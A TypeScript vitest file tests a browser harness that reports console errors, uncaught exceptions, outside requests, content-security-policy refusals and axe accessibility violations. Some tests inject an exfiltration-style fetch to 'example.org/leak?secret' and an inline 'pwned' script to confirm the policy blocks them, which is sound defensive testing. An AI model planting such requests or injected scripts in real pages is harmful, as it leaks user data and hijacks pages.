/** The harness hears what it is there to hear: a page that is at fault in one way at a time. */
import { createServer, type Server } from "node:http";
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { axe, closeBrowser, openBrowser, watch } from "../support/browser.ts";
import { listenOnLoopback } from "../support/loopback.ts";

let origin = "";
let stop: () => void = () => {};
let body = "";

beforeAll(async () => {
  const server: Server = createServer((asked, answer) => {
    const script = asked.url === "/fault.js";
    answer.writeHead(asked.url === "/absent" ? 404 : 200, {
      "content-type": script ? "text/javascript" : "text/html",
      "content-security-policy": "default-src 'self'; img-src 'self' data:",
    });
    answer.end(script ? body : page(body));
  });
  ({ origin, stop } = await listenOnLoopback(server));
});
afterAll(async () => {
  await closeBrowser();
  stop();
});
afterEach(() => {
  body = "";
});

function page(main: string): string {
  return `<!doctype html><html lang="en"><head><title>A page</title><link rel="icon" href="data:,"></head>
    <body><main><h1>A page</h1>${main}</main></body></html>`;
}

/** What is heard of a page until it has loaded, and until a script in it has been heard of. */
async function hear(main: string, script?: string): Promise<string> {
  const browser = await openBrowser();
  const context = await browser.newContext();
  const watched = await watch(context);
  const tab = await context.newPage();
  body = main;
  await tab.goto(`${origin}/`);
  if (script !== undefined) {
    const told = Promise.race([context.waitForEvent("console"), context.waitForEvent("weberror")]);
    await tab.evaluate(script);
    await told;
  }
  const said = await watched.expectQuiet().catch((error: unknown) => String(error));
  await context.close();
  return said ?? "";
}

test("a page without a fault is quiet, and axe finds nothing", async () => {
  expect(await hear("<p>Nothing happens.</p>")).toBe("");
  expect(await violations("<p>Nothing happens.</p>")).toEqual([]);
});

test("an error in the console is heard", async () => {
  expect(await hear("", `console.error("all is lost")`)).toContain("console: all is lost");
});

test("an error that nobody caught is heard", async () => {
  const thrown = `setTimeout(() => { throw new Error("late") })`;
  expect(await hear("", thrown)).toContain("error: late");
});

test("a request to elsewhere is heard, and leaves for nowhere", async () => {
  const asked = `fetch("https://example.org/leak?secret").catch(() => {})`;
  expect(await hear(`<a href="https://example.org/">A link alone is none.</a>`)).toBe("");
  expect(await hear(`<img alt="" src="https://example.org/pixel.png">`)).toContain(
    "request: GET https://example.org/pixel.png",
  );
  expect(await hear("", asked)).toMatch(/policy refused connect-src https:\/\/example\.org/i);
});

test("what the policy refuses is heard", async () => {
  expect(await hear(`<p style="color: red">Red</p>`)).toMatch(/policy refused style-src-attr/);
  expect(await hear(`<script>window.pwned = 1</script>`)).toMatch(/policy refused script-src-elem/);
});

test("a known noise is let pass, and no other", async () => {
  const browser = await openBrowser();
  const context = await browser.newContext();
  const watched = await watch(context);
  const tab = await context.newPage();
  await tab.goto(`${origin}/absent`);

  await expect(watched.expectQuiet()).rejects.toThrow("404");
  await expect(watched.expectQuiet(/409/)).rejects.toThrow("404");
  await watched.expectQuiet(/404/);
  await context.close();
});

test("axe finds a picture without words, pale text, and both in a shadow root", async () => {
  const picture = `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`;
  const shadow = `<div><template shadowrootmode="open"><button></button></template></div>`;
  expect(await violations(picture)).toEqual([expect.stringMatching(/^image-alt: img:/)]);
  expect(await violations(`<font color="#cccccc">pale</font>`)).toEqual([
    expect.stringMatching(/^color-contrast: font:/),
  ]);
  expect(await violations(shadow)).toEqual([expect.stringMatching(/^button-name: div button/)]);
});

async function violations(main: string): Promise<readonly string[]> {
  const browser = await openBrowser();
  const context = await browser.newContext();
  const tab = await context.newPage();
  body = main;
  await tab.goto(`${origin}/`);
  const found = await axe(tab);
  await context.close();
  return found;
}
